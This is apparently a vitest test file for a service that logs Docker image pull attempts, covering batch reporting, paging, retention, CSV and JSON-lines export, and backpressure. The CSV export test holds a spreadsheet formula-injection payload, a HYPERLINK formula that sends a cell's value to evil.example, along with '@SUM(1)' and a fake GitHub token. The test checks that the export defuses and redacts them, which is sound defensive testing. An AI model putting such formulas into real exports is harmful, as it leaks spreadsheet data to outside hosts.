import net from 'node:net';
import type { AttemptPage, AttemptReceipt, AttemptStats, PullAttempt } from '@pull-doctor/contract/attempts';
import type { FailurePage, PullFailure } from '@pull-doctor/contract/failures';
import type { HistoryState } from '@pull-doctor/contract/history';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startApplication, type TestApplication } from './application.ts';

let application: TestApplication;
beforeAll(async () => {
  application = await startApplication(() => ({ DOCKER_HOST: 'unix:///nowhere/docker.sock' }));
});
afterAll(() => application.close());

const inject = (method: 'GET' | 'POST', url: string, payload?: unknown, on = application) =>
  on.app.inject({
    method,
    url: `/api/v1${url}`,
    headers: { ...on.headers, ...(payload !== undefined && { 'content-type': 'application/json' }) },
    ...(payload !== undefined && { payload: JSON.stringify(payload) }),
  });
const report = async (body: unknown, on = application) => {
  const answer = await inject('POST', '/attempts', body, on);
  expect(answer.statusCode).toBe(200);
  return answer.json<AttemptReceipt>().results;
};
const get = async <Answer>(url: string, on = application) => {
  const answer = await inject('GET', url, undefined, on);
  expect(answer.statusCode).toBe(200);
  return answer.json<Answer>();
};

describe('reporting', () => {
  it('records one, and tells it again under its key', async () => {
    const one = {
      key: 'job-7',
      reference: 'nginx',
      outcome: 'failed',
      message: 'toomanyrequests: rate limit',
      tookMs: 4000,
    };
    const [first] = await report(one);
    expect(first).toMatchObject({ state: 'recorded', key: 'job-7', what: null });
    expect(await report(one)).toEqual([{ ...first, state: 'known' }]);
    const attempt = await get<PullAttempt>(`/attempts/${first?.id}`);
    expect(attempt).toMatchObject({
      host: 'build-01',
      reference: 'docker.io/library/nginx:latest',
      door: 'report',
      cause: 'rate-limited',
      tookMs: 4000,
    });
    // What is told at the end began that long ago.
    expect(Date.now() - Date.parse(attempt.startedAt)).toBeGreaterThanOrEqual(4000);
  });

  it('refuses what cannot be, and records the rest of the batch', async () => {
    const results = await report([
      { reference: 'ghcr.io/acme/ok:1', outcome: 'pulled', key: 'ok' },
      { reference: 'ghcr.io/Acme/bad:1', outcome: 'pulled', key: 'bad' },
      { reference: 'ghcr.io/Acme/bad:1', outcome: 'failed', key: 'attempt' },
      { reference: 'ghcr.io/acme/ok:1', outcome: 'failed', message: '', key: 'silent' },
    ]);
    expect(results.map(({ state }) => state)).toEqual(['recorded', 'refused', 'recorded', 'recorded']);
    expect(results[1]).toEqual({
      state: 'refused',
      id: null,
      key: 'bad',
      what: expect.stringContaining('lower case'),
    });
    expect(await get(`/attempts/${results[2]?.id}`)).toMatchObject({
      cause: 'invalid-reference',
      reference: 'ghcr.io/Acme/bad:1',
    });
    expect(await get(`/attempts/${results[3]?.id}`)).toMatchObject({ cause: 'unknown', message: null });
  });

  it('takes a thousand, and eight megabytes, and no more', async () => {
    const many = (count: number) =>
      Array.from({ length: count }, (_, n) => ({ reference: `acme/many:${n}`, outcome: 'pulled' }));
    expect(await report(many(1000))).toHaveLength(1000);
    expect((await inject('POST', '/attempts', many(1001))).statusCode).toBe(400);
    const long = Array.from({ length: 100 }, () => ({
      reference: 'acme/long',
      outcome: 'failed',
      message: 'x'.repeat(60_000),
    }));
    expect(await report(long)).toHaveLength(100);
    const longer = [...long, ...long.slice(0, 50)];
    const refused = await inject('POST', '/attempts', longer);
    expect([refused.statusCode, refused.json().code]).toEqual([413, 'too-large']);
    expect(
      (await inject('POST', '/attempts', { reference: 'a', outcome: 'failed', message: 'x'.repeat(65_537) }))
        .statusCode,
    ).toBe(400);
  });
});

describe('the lists', () => {
  it('go on where a page ended, in every order, and refuse a place of another order', async () => {
    const own = await startApplication(() => ({}));
    await report(
      Array.from({ length: 30 }, (_, n) => ({
        reference: `acme/x-${n % 4}`,
        outcome: n % 3 ? 'pulled' : 'failed',
        tookMs: n % 5,
      })),
      own,
    );
    for (const sort of ['-time', 'time', '-took', 'took', 'image', '-image']) {
      const seen: string[] = [];
      for (let cursor: string | null = ''; cursor !== null; ) {
        const page: AttemptPage = await get(
          `/attempts?limit=7&sort=${sort}${cursor && `&cursor=${cursor}`}`,
          own,
        );
        seen.push(...page.items.map(({ id }) => id));
        cursor = page.nextCursor;
      }
      expect([seen.length, new Set(seen).size]).toEqual([30, 30]);
    }
    const { nextCursor } = await get<AttemptPage>('/attempts?limit=7', own);
    const other = await inject('GET', `/attempts?limit=7&sort=image&cursor=${nextCursor}`, undefined, own);
    expect([other.statusCode, other.json().code]).toEqual([400, 'invalid-request']);

    const first = await get<FailurePage>('/failures?limit=1', own);
    const second = await get<FailurePage>(`/failures?limit=200&cursor=${first.nextCursor}`, own);
    expect([...first.items, ...second.items].map(({ repository }) => repository).toSorted()).toEqual(
      [0, 1, 2, 3].map((n) => `library/acme/x-${n}`.replace('library/', '')),
    );
    expect(second.nextCursor).toBeNull();
    const [failure] = first.items as [PullFailure];
    expect(await get(`/failures/${failure.fingerprint}`, own)).toEqual(failure);
    expect((await inject('GET', '/failures/v1:none', undefined, own)).json().code).toBe('no-such-failure');
    const stats = await get<AttemptStats>('/attempts/stats?family=none', own);
    expect(stats.total).toMatchObject({ attempts: 10, failed: 10 });
    await own.close();
  });

  it('tell how much is kept', async () => {
    const state = await get<HistoryState>('/history');
    expect(state).toMatchObject({ trouble: null, kept: { days: 90, megabytes: 1000 } });
    expect(state.kept.attempts).toBeGreaterThan(1000);
    expect(state.kept.fileBytes).toBeGreaterThan(100_000);
  });
});

describe('the export', () => {
  it('is CSV that a spreadsheet opens without running anything', async () => {
    const own = await startApplication(() => ({}));
    const message = '=HYPERLINK("http://evil.example/?"&A1,"open")\nsecond "line", with commas';
    await report({ reference: 'acme/csv', outcome: 'failed', message, user: '+1-2', client: '@SUM(1)' }, own);
    await report(
      {
        reference: 'acme/csv',
        outcome: 'pulled',
        bytes: 12,
        client: 'ghp_0123456789abcdefghijklmnopqrstuvwxyz',
      },
      own,
    );
    const answer = await inject('GET', '/attempts/export?format=csv', undefined, own);
    expect(answer.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': expect.stringMatching(/^attachment; filename="pull-attempts-[\dT-]+\.csv"$/),
    });
    const [header, ...rows] = readCsv(answer.body);
    expect(header).toEqual(Object.keys((await get<AttemptPage>('/attempts', own)).items[0] ?? {}));
    expect(rows).toHaveLength(2);
    const field = (row: number, name: string) => rows[row]?.[header?.indexOf(name) ?? -1];
    expect(field(1, 'message')).toBe(`'${message}`);
    expect([field(1, 'user'), field(1, 'client')]).toEqual(["'+1-2", "'@SUM(1)"]);
    expect([field(0, 'bytes'), field(0, 'user')]).toEqual(['12', '']);
    expect(answer.body).not.toContain('0123456789abcdef');
    expect(answer.body.endsWith('\r\n')).toBe(true);
    await own.close();
  });

  it('is JSON lines with the filters of the list', async () => {
    const answer = await inject('GET', '/attempts/export?format=jsonl&q=many:99');
    expect(answer.headers['content-type']).toBe('application/jsonl; charset=utf-8');
    const lines = answer.body
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines).toEqual((await get<AttemptPage>('/attempts?q=many:99')).items);
    expect(lines).toHaveLength(11);
    expect((await inject('GET', '/attempts/export?format=xlsx')).statusCode).toBe(400);
    expect((await application.app.inject({ url: '/api/v1/attempts/export' })).statusCode).toBe(401);
  });

  it('waits for a reader who is slow instead of holding what he has not read', async () => {
    const own = await startApplication(() => ({}));
    const rows = Array.from({ length: 120 }, () => ({
      reference: 'acme/slow',
      outcome: 'stopped',
      message: 'y'.repeat(60_000),
    }));
    for (let batch = 0; batch < 5; batch += 1) await report(rows, own);
    await own.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = own.app.server.address() as net.AddressInfo;
    const serving: net.Socket[] = [];
    own.app.server.on('connection', (one) => serving.push(one));
    const socket = net.connect(port, '127.0.0.1');
    socket.write(
      `GET /api/v1/attempts/export?format=jsonl HTTP/1.1\r\nhost: x\r\nconnection: close\r\nauthorization: ${own.headers.authorization}\r\n\r\n`,
    );
    socket.pause();
    await new Promise((resolve) => setTimeout(resolve, 700));
    // 36 MB are asked for; what stands in the buffers of the system is less.
    expect(socket.bytesRead).toBeLessThan(8 * 1024 * 1024);
    const [served] = serving;
    expect((served?.bytesWritten ?? 0) + (served?.writableLength ?? 0)).toBeLessThan(16 * 1024 * 1024);
    let bytes = 0;
    socket.on('data', (piece) => {
      bytes += piece.length;
    });
    socket.resume();
    await new Promise((resolve) => socket.once('close', resolve));
    expect(bytes).toBeGreaterThan(600 * 60_000);
    await own.close();
  }, 30_000);
});

describe('keeping a pasted text', () => {
  it('makes it an attempt of the door pasted, once', async () => {
    const { diagnosis } = await application.diagnose({
      input:
        'Error response from daemon: manifest for 127.0.0.1:1/acme/kept:9 not found: manifest unknown: manifest unknown',
    });
    const kept = await inject('POST', `/diagnoses/${diagnosis.id}/keep`);
    expect(kept.statusCode).toBe(200);
    expect(kept.json()).toMatchObject({
      door: 'pasted',
      outcome: 'failed',
      reference: '127.0.0.1:1/acme/kept:9',
      diagnosisId: diagnosis.id,
      cause: diagnosis.findings[0]?.cause,
      message: diagnosis.input,
    });
    expect((await inject('POST', `/diagnoses/${diagnosis.id}/keep`)).json().id).toBe(kept.json().id);
  }, 30_000);

  it('is refused for an image, and for what is not there', async () => {
    const { diagnosis } = await application.diagnose({ input: '127.0.0.1:1/acme/app:1' });
    const refused = await inject('POST', `/diagnoses/${diagnosis.id}/keep`);
    expect([refused.statusCode, refused.json().code]).toEqual([409, 'nothing-to-keep']);
    expect((await inject('POST', '/diagnoses/none/keep')).json().code).toBe('no-such-diagnosis');
  }, 30_000);
});

/** RFC 4180, read by its grammar and nothing more. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y;
  while (field.lastIndex < text.length) {
    const [, quoted, plain, end] = field.exec(text) ?? [];
    row.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}
